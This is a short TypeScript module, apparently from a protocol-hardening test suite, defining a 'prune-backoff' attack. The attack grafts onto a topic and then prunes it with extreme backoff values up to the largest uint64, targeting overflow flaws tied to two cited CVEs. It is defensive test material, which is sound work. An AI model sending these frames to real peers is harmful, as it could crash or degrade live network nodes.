import { sleep } from "../../../../base/clock.ts";
import type { Attack } from "../../attack.ts";
import { controlFrame } from "../../frames.ts";
import { UINT64_MAX } from "../../rpc.ts";

const BACKOFFS = [UINT64_MAX, 2n ** 63n, 2n ** 63n - 1n, 2n ** 53n + 1n, 2n ** 32n, 0n];
const INTERVAL_MS = 30;

export const pruneBackoff: Attack = {
  name: "prune-backoff",
  group: "control",
  what: "Grafts, and prunes with backoffs up to the largest uint64.",
  source: "CVE-2026-33040, CVE-2026-34219",
  sound: "Clamps the backoff: does not overflow, nor remember a peer for ever.",
  hangsUp: false,
  async run({ fixture, clock, signal, join, send }) {
    for (const backoff of BACKOFFS) {
      const peer = await join();
      if (peer === null || signal.aborted) return;
      send(peer, controlFrame({ graft: [fixture.topic] }));
      send(peer, controlFrame({ prune: [{ topic: fixture.topic, backoff }] }));
      await sleep(clock, INTERVAL_MS, signal);
    }
  },
};
